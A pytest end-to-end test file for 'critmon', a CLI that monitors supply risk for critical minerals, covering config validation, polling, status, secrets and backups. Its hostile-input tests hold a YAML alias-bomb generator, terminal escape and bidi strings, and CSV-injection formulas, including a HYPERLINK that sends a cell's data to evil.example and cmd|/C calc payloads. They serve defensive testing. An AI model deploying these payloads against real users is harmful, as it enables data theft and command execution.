"""The command line, end to end into a temporary state directory."""

from __future__ import annotations

import csv
import io
import json
import re
import shlex
import socket
import time
from collections.abc import Iterator
from pathlib import Path

import click
import pytest
from click.testing import CliRunner
from pytest_httpserver import HTTPServer

from monitor.cli.main import EX_CONFIG, cli
from monitor.config.load import CONFIG_FILES, default_config_dir
from monitor.store.database import DB_NAME, Store

FRED_CSV = "observation_date,PCOBAUSDM\n2025-09-01,33000\n2025-10-01,35100\n2025-11-01,48200\n"


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Send every HTTP request through a proxy port nobody listens on: no network, ever."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    for var in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy"):
        monkeypatch.setenv(var, f"http://127.0.0.1:{port}")
    monkeypatch.delenv("NO_PROXY", raising=False)
    monkeypatch.delenv("no_proxy", raising=False)


@pytest.fixture
def local_config(tmp_path: Path, httpserver: HTTPServer) -> Path:
    """The shipped config with one source served by the local HTTP server, one broken."""
    directory = tmp_path / "config"
    directory.mkdir()
    httpserver.expect_request("/cobalt.csv").respond_with_data(FRED_CSV)
    httpserver.expect_request("/broken.csv").respond_with_data("<html>no</html>", status=500)
    (directory / "sources.yaml").write_text(f"""
version: 1
sources:
  - id: local_cobalt
    kind: fred_csv
    url: {httpserver.url_for("/cobalt.csv")}
    mineral: cobalt
    unit: USD/t
  - id: local_broken
    kind: fred_csv
    url: {httpserver.url_for("/broken.csv")}
    mineral: tin
    unit: USD/t
""", encoding="utf-8")
    return directory


def invoke(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def test_config_check_passes_on_the_shipped_config() -> None:
    code, out, _ = invoke("--config", str(default_config_dir()), "config", "check")
    assert code == 0
    assert "valid:" in out


def test_config_check_fails_with_file_key_and_line(tmp_path: Path) -> None:
    (tmp_path / "rules.yaml").write_text("version: 1\nrisk:\n  hysterisis: 3\n",
                                         encoding="utf-8")
    code, _, err = invoke("--config", str(tmp_path), "config", "check")
    assert code == EX_CONFIG
    assert f"{tmp_path / 'rules.yaml'}:3: risk.hysterisis: unknown key 'hysterisis'" in err


def test_config_init_writes_the_defaults_that_then_check(tmp_path: Path) -> None:
    target = tmp_path / "etc"
    code, out, _ = invoke("config", "init", str(target))
    assert code == 0
    assert sorted(p.name for p in target.iterdir()) == sorted(CONFIG_FILES)
    code, out, _ = invoke("--config", str(target), "config", "check")
    assert code == 0
    assert all(str(target / name) in out for name in CONFIG_FILES)


def test_config_init_keeps_existing_files(tmp_path: Path) -> None:
    (tmp_path / "rules.yaml").write_text("version: 1\n", encoding="utf-8")
    invoke("config", "init", str(tmp_path))
    assert (tmp_path / "rules.yaml").read_text(encoding="utf-8") == "version: 1\n"


def test_once_polls_evaluates_and_leaves_a_populated_store(
        tmp_path: Path, local_config: Path) -> None:
    state = tmp_path / "state"
    code, out, err = invoke("--config", str(local_config), "--state-dir", str(state), "once")
    assert code == 0, err
    assert "polled 2 sources: 1 ok, 1 failing" in out
    assert "local_broken" in err
    with Store.open(state / DB_NAME) as store:
        counts = store.count_observations()
        assert counts["local_cobalt"] == 3
        assert sum(counts.values()) > 10_000  # the bundled USGS and Pink Sheet history
        assert store.get_meta("last_cycle_at")
        assert store.source_state("local_broken").status == "failing"


@pytest.mark.usefixtures("no_network")
def test_once_on_the_shipped_defaults_without_network_exits_zero(tmp_path: Path) -> None:
    state = tmp_path / "state"
    code, out, err = invoke("--config", str(default_config_dir()), "--state-dir", str(state),
                            "once")
    assert code == 0, err
    assert "0 ok" in out
    with Store.open(state / DB_NAME) as store:
        assert sum(store.count_observations().values()) > 10_000
        assert all(s.status == "failing" and s.last_error for s in store.source_states())


def test_status_lists_every_mineral_in_each_format(tmp_path: Path, local_config: Path) -> None:
    state = tmp_path / "state"
    invoke("--config", str(local_config), "--state-dir", str(state), "once")
    base = ["--config", str(local_config), "--state-dir", str(state), "status"]
    _, table, _ = invoke(*base)
    assert table.splitlines()[0].startswith("mineral")
    _, as_json, _ = invoke(*base, "--format", "json")
    rows = {row["mineral"]: row for row in json.loads(as_json)}
    assert rows["cobalt"]["price"] == 48200 and rows["cobalt"]["price_period"] == "2025-11-01"
    assert rows["gallium"]["nir"] == "100"
    assert rows["gallium"]["score"] > rows["copper"]["score"]
    _, as_csv, _ = invoke(*base, "--format", "csv")
    assert len(list(csv.DictReader(io.StringIO(as_csv)))) == len(rows)


def test_status_as_of_uses_only_what_was_public_then(tmp_path: Path, local_config: Path) -> None:
    state = tmp_path / "state"
    invoke("--config", str(local_config), "--state-dir", str(state), "once")
    _, out, _ = invoke("--config", str(local_config), "--state-dir", str(state), "status",
                       "--as-of", "2022-04-15", "--format", "json")
    rows = {row["mineral"]: row for row in json.loads(out)}
    assert rows["nickel"]["price_period"] == "2022-03-01"
    assert rows["nickel"]["chg_3m_pct"] > 60  # the LME nickel squeeze of March 2022
    assert "price_jump_3m:critical" in rows["nickel"]["signals"]


def test_explain_breaks_a_score_down(tmp_path: Path, local_config: Path) -> None:
    state = tmp_path / "state"
    invoke("--config", str(local_config), "--state-dir", str(state), "once")
    code, out, _ = invoke("--config", str(local_config), "--state-dir", str(state), "explain",
                          "gallium", "--format", "json")
    assert code == 0
    report = json.loads(out)
    assert [f["factor"] for f in report["factors"]] == ["structural", "market", "policy"]
    assert report["method"].startswith("risk-v1")
    nir = next(i for i in report["indicators"] if i["indicator"] == "net_import_reliance")
    assert nir["value"] == 100 and nir["source"].startswith("usgs_mcs")
    code, table, _ = invoke("--config", str(local_config), "--state-dir", str(state), "explain",
                            "germanium")
    assert "missing:" in table and "confidence" in table


def test_once_stores_indicator_history_scores_and_signals(
        tmp_path: Path, local_config: Path) -> None:
    state = tmp_path / "state"
    invoke("--config", str(local_config), "--state-dir", str(state), "once")
    invoke("--config", str(local_config), "--state-dir", str(state), "once")
    with Store.open(state / DB_NAME) as store:
        scores = store.risk_history("gallium")
        assert len(scores) == 1  # an unchanged score is stored once
        assert scores[0]["method"].startswith("risk-v1")
        signals = {(s["rule"], s["mineral"]): s for s in store.current_signals()}
        assert signals[("supply_risk_level", "gallium")]["firing"] == 1
        assert store.db.execute("SELECT COUNT(*) FROM indicator_values").fetchone()[0] > 500


def test_sources_check_reports_each_source(tmp_path: Path, local_config: Path) -> None:
    code, out, _ = invoke("--config", str(local_config), "--state-dir", str(tmp_path / "s"),
                          "sources", "check", "--format", "json")
    assert code == 0
    rows = {row["source"]: row for row in json.loads(out)}
    assert rows["local_cobalt"]["status"] == "ok" and rows["local_cobalt"]["rows"] == 3
    assert rows["local_broken"]["status"] == "failing"
    assert "500" in rows["local_broken"]["error"]


def test_config_history_lists_loaded_configs(tmp_path: Path, local_config: Path) -> None:
    state = tmp_path / "state"
    invoke("--config", str(local_config), "--state-dir", str(state), "once")
    invoke("--config", str(local_config), "--state-dir", str(state), "once")
    _, out, _ = invoke("--state-dir", str(state), "config", "history", "--format", "json")
    assert len(json.loads(out)) == 1  # an unchanged config is recorded once


def test_status_without_a_database_says_what_to_do(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["--state-dir", str(tmp_path), "status"])
    assert result.exit_code == 1
    assert "run `critmon once`" in result.stderr


def test_rules_show_prints_effective_rules_with_overrides(tmp_path: Path) -> None:
    (tmp_path / "rules.yaml").write_text((default_config_dir() / "rules.yaml").read_text(
        encoding="utf-8").replace("overrides: {}", """overrides:
  gallium:
    price_jump_3m: {thresholds: [0.2, 0.4]}
  nickel:
    price_stale: {enabled: false}"""), encoding="utf-8")
    code, out, _ = invoke("--config", str(tmp_path), "rules", "show", "--mineral", "gallium",
                          "--mineral", "nickel", "--format", "json")
    assert code == 0
    rows = {(r["mineral"], r["rule"]): r for r in json.loads(out)}
    assert rows[("gallium", "price_jump_3m")]["params"].startswith(
        "direction=above, thresholds=[0.2, 0.4]")
    assert rows[("gallium", "price_jump_3m")]["overridden"] is True
    assert rows[("nickel", "price_jump_3m")]["params"].endswith("thresholds=[0.262, 0.47]")
    assert rows[("nickel", "price_stale")]["enabled"] is False
    assert {m for m, _ in rows} == {"gallium", "nickel"}


def test_rules_show_rejects_an_unknown_mineral() -> None:
    result = CliRunner().invoke(cli, ["rules", "show", "--mineral", "unobtainium"])
    assert result.exit_code == 2
    assert "unknown mineral(s): unobtainium" in result.stderr


# ---------------------------------------------------------------------- hostile config


def billion_laughs(levels: int, width: int = 10) -> str:
    """A YAML flow sequence whose aliases expand to ``width ** levels`` strings."""
    anchors = [f'&l0 [{", ".join(["lol"] * width)}]']
    anchors += [f'&l{n} [{", ".join([f"*l{n - 1}"] * width)}]' for n in range(1, levels + 1)]
    return "[" + ", ".join(anchors) + "]"


def one_source(directory: Path, url: str, extra: str = "") -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "sources.yaml"
    path.write_text(f"""version: 1
sources:
  - id: local_cobalt
    kind: fred_csv
    url: {url}
    mineral: cobalt
    unit: USD/t
{extra}""", encoding="utf-8")
    return path


def test_config_check_refuses_a_yaml_alias_bomb_quickly_and_briefly(tmp_path: Path) -> None:
    path = one_source(tmp_path, "https://example.org/c.csv",
                      f"    interval: {billion_laughs(levels=5)}\n")
    started = time.monotonic()
    code, _, err = invoke("--config", str(tmp_path), "config", "check")
    assert code == EX_CONFIG
    assert time.monotonic() - started < 10
    assert err.startswith(f"critmon: config error: {path}:8: ")
    assert "alias" in err
    assert len(err) < 300


@pytest.mark.parametrize(("extra", "expected"), [
    ("    interval: 999999999d\n", "sources.0.interval: must be between 1s and 90d"),
    ("    jitter: 99999999999999w\n", "sources.0.jitter: must be between 0s and 90d"),
    ("    timeout: 0s\n", "sources.0.timeout: must be between 1s and 10m"),
    ("    max_bytes: 0\n", "sources.0.max_bytes: must be between 1KiB and 1GiB"),
    ("    interval: 8h\n    interval: 9h\n", "duplicate key 'interval'"),
])
def test_config_check_and_once_name_an_extreme_value(tmp_path: Path, extra: str,
                                                     expected: str) -> None:
    path = one_source(tmp_path / "config", "https://example.org/c.csv", extra)
    line = len(path.read_text(encoding="utf-8").splitlines())
    code, _, err = invoke("config", "check", "--config", str(tmp_path / "config"))
    assert code == EX_CONFIG, err
    assert f"{path}:{line}: " in err and expected in err
    code, _, err = invoke("--config", str(tmp_path / "config"), "--state-dir",
                          str(tmp_path / "state"), "once")
    assert code == EX_CONFIG and expected in err


def test_once_runs_with_the_largest_allowed_durations_and_sizes(
        tmp_path: Path, httpserver: HTTPServer) -> None:
    httpserver.expect_request("/cobalt.csv").respond_with_data(FRED_CSV)
    one_source(tmp_path / "config", httpserver.url_for("/cobalt.csv"),
               "    interval: 90d\n    jitter: 90d\n    timeout: 10m\n    max_bytes: 1GiB\n"
               "    stale_after: 3650d\n")
    code, out, err = invoke("--config", str(tmp_path / "config"), "--state-dir",
                            str(tmp_path / "state"), "once")
    assert code == 0, err
    assert "1 ok, 0 failing" in out


# ---------------------------------------------------------------------- secrets in source URLs

FRED_KEY = "fk-7Qw9ZrT2-secret-0042"


@pytest.fixture
def keyed_server(httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> HTTPServer:
    """A FRED stand-in that answers only with the right api_key; the key comes from the env."""
    monkeypatch.setenv("CRITMON_TEST_FRED_KEY", FRED_KEY)
    httpserver.expect_request("/fred.csv", query_string={"id": "PCOBAUSDM",
                                                         "api_key": FRED_KEY}
                              ).respond_with_data(FRED_CSV)
    httpserver.expect_request("/fred.csv").respond_with_data("bad key", status=403)
    httpserver.expect_request(f"/private/{FRED_KEY}/down.csv").respond_with_data(
        "down", status=503)
    return httpserver


def test_a_source_url_with_a_secret_reference_fetches_and_never_shows_the_secret(
        tmp_path: Path, keyed_server: HTTPServer) -> None:
    config, state = tmp_path / "config", tmp_path / "state"
    url = keyed_server.url_for("/fred.csv") + "?id=PCOBAUSDM&api_key=${CRITMON_TEST_FRED_KEY}"
    one_source(config, url)
    with (config / "sources.yaml").open("a", encoding="utf-8") as sources:
        sources.write(f"""  - id: local_down
    kind: fred_csv
    url: {keyed_server.url_for("/private")}/${{CRITMON_TEST_FRED_KEY}}/down.csv
    mineral: tin
    unit: USD/t
""")
    base = ["--config", str(config), "--state-dir", str(state)]
    code, once_out, once_err = invoke(*base, "once")
    assert code == 0, once_err
    assert "2 sources: 1 ok, 1 failing" in once_out
    outputs = [once_out, once_err]
    for command in (["config", "show"], ["config", "history", "--format", "json"],
                    ["sources", "list", "--format", "json"], ["health"]):
        _, out, err = invoke(*base, *command)
        outputs += [out, err]
    assert "${CRITMON_TEST_FRED_KEY}" in outputs[2]  # config show keeps the reference
    with Store.open(state / DB_NAME) as store:
        dump = "\n".join(store.db.iterdump())
        assert store.source_state("local_down").last_error
    assert "/private/" in dump
    for text in (*outputs, dump):
        assert FRED_KEY not in text
        assert "7Qw9ZrT2" not in text


def test_an_inline_api_key_in_a_source_url_is_refused(tmp_path: Path) -> None:
    path = one_source(tmp_path, "https://example.org/fred.csv?id=X&api_key=abcdef0123456789")
    code, _, err = invoke("config", "check", "--config", str(tmp_path))
    assert code == EX_CONFIG
    assert f"{path}:5: sources.0.url: " in err and "${ENV_VAR}" in err
    assert "abcdef0123456789" not in err


# ---------------------------------------------------------------------- global options


def test_global_options_work_after_the_subcommand(tmp_path: Path, local_config: Path) -> None:
    code, out, err = invoke("config", "check", "--config", str(local_config))
    assert code == 0, err
    assert str(local_config / "sources.yaml") in out
    state = tmp_path / "state"
    code, _, err = invoke("once", "--config", str(local_config), "--state-dir", str(state),
                          "--log-level", "WARNING")
    assert code == 0, err
    code, out, err = invoke("status", "--state-dir", str(state), "--config", str(local_config),
                            "--format", "json")
    assert code == 0, err
    assert {row["mineral"] for row in json.loads(out)} >= {"cobalt", "gallium"}
    code, out, _ = invoke("sources", "list", "--state-dir", str(state), "--config",
                          str(local_config))
    assert code == 0 and "local_cobalt" in out


def test_global_options_still_work_before_the_subcommand_and_the_later_one_wins(
        tmp_path: Path, local_config: Path) -> None:
    code, out, _ = invoke("--config", str(local_config), "config", "check")
    assert code == 0 and str(local_config / "sources.yaml") in out
    code, out, _ = invoke("--config", str(tmp_path / "missing"), "config", "check", "--config",
                          str(local_config))
    assert code == 0 and str(local_config / "sources.yaml") in out


def test_every_command_accepts_the_global_options() -> None:
    def walk(command: click.Command, path: str) -> Iterator[tuple[str, click.Command]]:
        yield path, command
        if isinstance(command, click.Group):
            for name, sub in command.commands.items():
                yield from walk(sub, f"{path} {name}")

    for path, command in walk(cli, "critmon"):
        options = {opt for param in command.params for opt in param.opts}
        assert {"--config", "--state-dir", "--log-level"} <= options, path


def readme_commands() -> list[str]:
    """Every ``critmon ...`` command the README shows, in backticks or in code blocks."""
    text = (Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8")
    found = re.findall(r"`(critmon [^`]+)`", text)
    for block in re.findall(r"```sh\n(.*?)```", text, flags=re.DOTALL):
        for line in block.splitlines():
            match = re.search(r"(?:^|\bbin/)(critmon\s+\S.*?)\s*(?:#.*)?$", line.strip())
            if match:
                found.append(match.group(1))
    return list(dict.fromkeys(found))


def command_of(spec: str) -> tuple[list[str], click.Command, list[str]]:
    """Resolve a README command to its click command; return its path and option names."""
    tokens = shlex.split(spec.replace("\\|", "|").replace("[", " ").replace("]", " "))[1:]
    command: click.Command = cli
    path: list[str] = []
    options: list[str] = []
    rest = iter(tokens)
    for token in rest:
        if token in ("--config", "--state-dir", "--log-level") and not path:
            next(rest)  # a global option and its value, before the subcommand
        elif token.startswith("-"):
            options.append(token)
        elif isinstance(command, click.Group) and token in command.commands:
            command = command.commands[token]
            path.append(token)
    return path, command, options


def test_readme_shows_at_least_the_commands_table() -> None:
    assert len(readme_commands()) >= 25
    assert "critmon config check [--config DIR]" in readme_commands()


@pytest.mark.parametrize("spec", readme_commands())
def test_every_command_in_the_readme_runs_as_written(spec: str) -> None:
    path, command, options = command_of(spec)
    assert path or spec.strip() == "critmon", spec
    known = {opt for param in command.params for opt in param.opts} | {"--help", "-h"}
    assert set(options) <= known, f"{spec}: no such option {sorted(set(options) - known)}"
    result = CliRunner().invoke(cli, [*path, *[o for o in options if o == "--help"], "--help"])
    assert result.exit_code == 0, result.output


def test_readme_config_check_line_runs_exactly_as_written(tmp_path: Path,
                                                          local_config: Path) -> None:
    code, _, err = invoke(*shlex.split(f"config check --config {local_config}"))
    assert code == 0, err
    code, _, err = invoke(*shlex.split(f"--state-dir {tmp_path} health"))
    assert code == 1 and "no database" in err


# --------------------------------------------------------------------------- hostile stored text

#: What a feed or a server once managed to store: an OSC title change ended by BEL, a CSI
#: (7-bit and C1), an OSC as C1, a right-to-left override.
HOSTILE_ERROR = "HTTP 503 \x1b]0;owned\x07Service \x1b[2JUnavailable"
HOSTILE_TITLE = "China \x9b31mbans\x9d0;x\x07 gallium \u202eexports"
TERMINAL_HAZARDS = ("\x1b", "\x07", "\x9b", "\x9d", "\u202e")
#: Cells a spreadsheet would run as a formula (OWASP CSV injection), each a news title.
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def _now_iso() -> str:
    from datetime import UTC, datetime

    return datetime.now(UTC).isoformat()


def _insert_news(store: Store, item_id: str, title: str) -> None:
    """Straight into the table, as an old version of critmon (no cleaning at ingest) did."""
    at = _now_iso()
    store.db["news_items"].insert({
        "id": item_id, "source": "gnews", "url": f"https://example.org/{item_id}\x9b",
        "title": title, "published_at": at, "fetched_at": at, "kind": "export_ban",
        "is_supply_risk_event": 1, "confidence": 0.9, "risk_confidence": 0.9,
        "country": "China\u202e"})
    store.db["news_tags"].insert({"item_id": item_id, "mineral": "gallium", "direct": 1})


@pytest.fixture
def hostile_state(tmp_path: Path) -> Path:
    """A state database holding control characters and formulas in every kind of text."""
    state = tmp_path / "state"
    state.mkdir(mode=0o700)
    with Store.open(state / DB_NAME) as store:
        store.db["source_state"].insert({
            "source": "fred_nickel", "kind": "fred_csv", "status": "failing\x1b[5m",
            "last_error": HOSTILE_ERROR, "consecutive_failures": 3})
        _insert_news(store, "x:hostile", HOSTILE_TITLE)
        for n, formula in enumerate(FORMULAS):
            _insert_news(store, f"x:formula{n}", formula)
        store.db["alert_events"].insert({
            "at": _now_iso(), "fingerprint": "f00dfeed" * 4, "alertname": "@SUM(1)",
            "mineral": "gallium", "kind": "fired", "from_state": "pending",
            "to_state": "firing", "level": "high", "value": -0.5,
            "detail": '=HYPERLINK("http://evil.example","x") ' + HOSTILE_TITLE})
    return state


@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
@pytest.mark.parametrize("command", [["sources", "list"], ["news"], ["history"]])
def test_stored_control_and_bidi_characters_never_reach_the_terminal(
        hostile_state: Path, command: list[str], fmt: str) -> None:
    code, out, err = invoke("--config", str(default_config_dir()), "--state-dir",
                            str(hostile_state), *command, "--format", fmt)
    assert code == 0, err
    assert [h for h in TERMINAL_HAZARDS if h in out + err] == []
    if fmt == "json":
        json.loads(out)  # still valid JSON
    visible = "Unavailable" if command == ["sources", "list"] else "gallium"
    assert visible in out


def test_sources_list_shows_the_stored_error_without_its_escape_sequences(
        hostile_state: Path) -> None:
    code, out, _ = invoke("--config", str(default_config_dir()), "--state-dir",
                          str(hostile_state), "sources", "list", "--format", "json")
    assert code == 0
    row = next(r for r in json.loads(out) if r["source"] == "fred_nickel")
    assert row["last_error"] == "HTTP 503 ]0;ownedService [2JUnavailable"


def _csv_rows(out: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(out)))


def test_news_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(
        hostile_state: Path) -> None:
    code, out, _ = invoke("--state-dir", str(hostile_state), "news", "--format", "csv")
    assert code == 0
    titles = {row["title"] for row in _csv_rows(out)}
    assert {"'" + f.replace("\r", "") if f.startswith("\r") else "'" + f
            for f in FORMULAS} <= titles
    assert not [t for t in titles if t[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_history_csv_neutralises_formulas_but_keeps_numbers_numbers(hostile_state: Path
                                                                    ) -> None:
    code, out, _ = invoke("--state-dir", str(hostile_state), "history", "--format", "csv")
    assert code == 0
    (row,) = _csv_rows(out)
    assert row["alertname"] == "'@SUM(1)"
    assert row["detail"].startswith("'=HYPERLINK(")
    assert row["value"] == "-0.5"  # a negative number is a number, not a formula
    code, out, _ = invoke("--state-dir", str(hostile_state), "history", "--format", "json")
    assert json.loads(out)[0]["value"] == -0.5 and json.loads(out)[0]["alertname"] == "@SUM(1)"


# --------------------------------------------------------------------------- fingerprint prefixes


@pytest.fixture
def two_alerts(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    """A state directory with gallium and tin firing; returns it and their fingerprints."""
    from datetime import UTC, datetime

    from monitor.alerting.enqueue import enqueue_signals
    from monitor.config.load import load_config
    from monitor.core.models import Signal

    state = tmp_path / "state"
    state.mkdir(mode=0o700)
    signals = [Signal(rule="supply_risk_level", mineral=m, indicator="supply_risk", firing=True,
                      level="high", value=80.0) for m in ("gallium", "tin")]
    with Store.open(state / DB_NAME) as store:
        enqueue_signals(store, load_config(None), signals, datetime.now(UTC))
        prints = {r["mineral"]: r["fingerprint"] for r in store.db.query(
            "SELECT mineral, fingerprint FROM alert_state")}
    return state, prints


def _acks(state: Path) -> int:
    with Store.open(state / DB_NAME) as store:
        return store.db.execute("SELECT COUNT(*) FROM acks").fetchone()[0]


@pytest.mark.parametrize("ref", ["%", "_", "\\", "%%", "{fp4}%", "{fp4}_"])
def test_ack_takes_like_wildcards_literally(two_alerts: tuple[Path, dict[str, str]],
                                            ref: str) -> None:
    state, prints = two_alerts
    code, _, err = invoke("--state-dir", str(state), "ack",
                            ref.format(fp4=prints["gallium"][:4]), "-c", "x", "--author", "ana")
    assert code == 1 and "no alert with id or fingerprint" in err
    assert _acks(state) == 0


def test_ack_still_takes_a_real_fingerprint_prefix(two_alerts: tuple[Path, dict[str, str]]
                                                   ) -> None:
    state, prints = two_alerts
    code, out, _ = invoke("--state-dir", str(state), "ack", prints["tin"][:6].upper(), "-c",
                          "x", "--author", "ana")
    assert code == 0 and "(tin supply_risk_level, high)" in out
    assert _acks(state) == 1


@pytest.mark.parametrize("ref", ["%", "_", "%{fp4}", "{fp4}%"])
def test_history_fingerprint_takes_like_wildcards_literally(
        two_alerts: tuple[Path, dict[str, str]], ref: str) -> None:
    state, prints = two_alerts
    code, out, _ = invoke("--state-dir", str(state), "history", "--format", "json",
                          "--fingerprint", ref.format(fp4=prints["tin"][:4]))
    assert code == 0 and json.loads(out) == []
    code, out, _ = invoke("--state-dir", str(state), "history", "--format", "json",
                          "--fingerprint", prints["tin"][:5])
    assert code == 0 and {row["mineral"] for row in json.loads(out)} == {"tin"}


# --------------------------------------------------------------------------- db backup targets


@pytest.fixture
def live_state(tmp_path: Path) -> Path:
    state = tmp_path / "state"
    state.mkdir(mode=0o700)
    with Store.open(state / DB_NAME) as store:
        store.set_meta("canary", "alive")
    return state


def _canary(db: Path) -> str | None:
    with Store.open(db, migrate=False) as store:
        return store.get_meta("canary")


@pytest.mark.parametrize("name", [DB_NAME, DB_NAME + "-wal", DB_NAME + "-shm"])
def test_db_backup_never_writes_over_the_live_database(live_state: Path, name: str) -> None:
    code, _, err = invoke("--state-dir", str(live_state), "db", "backup", "--force",
                          str(live_state / name))
    assert code == 73 and str(live_state / name) in err and "state database" in err
    assert _canary(live_state / DB_NAME) == "alive"


def test_db_backup_through_a_symlink_to_the_live_database_is_refused(
        live_state: Path, tmp_path: Path) -> None:
    link = tmp_path / "backup.db"
    link.symlink_to(live_state / DB_NAME)
    code, _, err = invoke("--state-dir", str(live_state), "db", "backup", str(link))
    assert code == 73 and "state database" in err
    assert _canary(live_state / DB_NAME) == "alive"


def test_db_backup_into_a_missing_directory_says_so(live_state: Path, tmp_path: Path) -> None:
    code, _, err = invoke("--state-dir", str(live_state), "db", "backup",
                          str(tmp_path / "nowhere" / "b.db"))
    assert code == 73 and f"there is no directory {tmp_path / 'nowhere'}" in err


def test_db_backup_replaces_a_previous_backup_but_not_other_files(live_state: Path,
                                                                  tmp_path: Path) -> None:
    target = tmp_path / "backup.db"
    assert invoke("--state-dir", str(live_state), "db", "backup", str(target))[0] == 0
    target.chmod(0o644)
    assert invoke("--state-dir", str(live_state), "db", "backup", str(target))[0] == 0
    assert _canary(target) == "alive" and target.stat().st_mode & 0o777 == 0o600
    notes = tmp_path / "notes.txt"
    notes.write_text("precious\n", encoding="utf-8")
    code, _, err = invoke("--state-dir", str(live_state), "db", "backup", str(notes))
    assert code == 73 and str(notes) in err and "--force" in err
    assert notes.read_text(encoding="utf-8") == "precious\n"
    assert invoke("--state-dir", str(live_state), "db", "backup", "--force", str(notes))[0] == 0
    assert _canary(notes) == "alive"


def test_demo_lines_keep_their_colour_but_not_escapes_from_alert_text() -> None:
    from datetime import date
    from types import SimpleNamespace

    from monitor.cli.backtest import demo_line

    alert = SimpleNamespace(annotations=(("summary", "China \x1b]0;x\x07bans \u202egallium"),),
                            alertname="policy_event", mineral="gallium")
    line = demo_line(date(2023, 7, 3), SimpleNamespace(kind="fired", alert=alert, level="high"))
    assert line.count("\x1b") == 3  # click.style: red, bold, reset; none from the summary
    assert line.endswith("China ]0;xbans gallium")


# ---------------------------------------------------------------------- perspectives


def test_status_and_explain_take_a_perspective(tmp_path: Path, local_config: Path) -> None:
    shipped = (default_config_dir() / "rules.yaml").read_text(encoding="utf-8")
    (local_config / "rules.yaml").write_text(shipped + "\nperspectives: [us, cn]\n",
                                             encoding="utf-8")
    state = tmp_path / "state"
    code, _, err = invoke("--config", str(local_config), "--state-dir", str(state), "once")
    assert code == 0, err
    base = ["--config", str(local_config), "--state-dir", str(state)]
    _, everything, _ = invoke(*base, "status", "--format", "json")
    rows = json.loads(everything)
    assert {row["perspective"] for row in rows} == {"us", "cn"}
    _, only_cn, _ = invoke(*base, "status", "--perspective", "cn", "--format", "json")
    cn = {row["mineral"]: row for row in json.loads(only_cn)}
    assert {row["perspective"] for row in cn.values()} == {"cn"}
    # what China imports ranks above what it exports, and explain says why
    imports, exports = ("cobalt", "nickel", "chromium", "platinum", "lithium", "copper"), \
        ("rare_earths", "gallium", "graphite", "tungsten")
    assert min(cn[m]["score"] for m in imports) > max(cn[m]["score"] for m in exports)
    for mineral in imports:
        _, out, _ = invoke(*base, "explain", mineral, "--perspective", "cn", "--format", "json")
        doc = json.loads(out)
        assert doc["perspective"] == "cn"
        assert doc["exposure"].startswith("import reliance (cn)")
        assert "net exporter" not in doc["exposure"], mineral
    for mineral in exports:
        _, out, _ = invoke(*base, "explain", mineral, "--perspective", "cn", "--format", "json")
        assert json.loads(out)["exposure"].startswith(
            "import reliance (cn): net exporter, China produces"), mineral
    code, table, _ = invoke(*base, "explain", "gallium")
    assert code == 0
    assert "== perspective us ==" in table and "== perspective cn ==" in table
    assert "net exporter, China produces 99% of world output" in table
    with Store.open(state / DB_NAME) as store:
        assert store.latest_levels("cn")["cobalt"] in ("moderate", "high", "critical")
        assert {row["perspective"] for row in store.current_signals()} == {"us", "cn"}


def test_an_unmonitored_perspective_is_refused(tmp_path: Path, local_config: Path) -> None:
    state = tmp_path / "state"
    invoke("--config", str(local_config), "--state-dir", str(state), "once")
    result = CliRunner().invoke(cli, ["--config", str(local_config), "--state-dir", str(state),
                                      "status", "--perspective", "eu"])
    assert result.exit_code == 2
    assert "'eu' is not monitored; rules.yaml lists us" in result.output
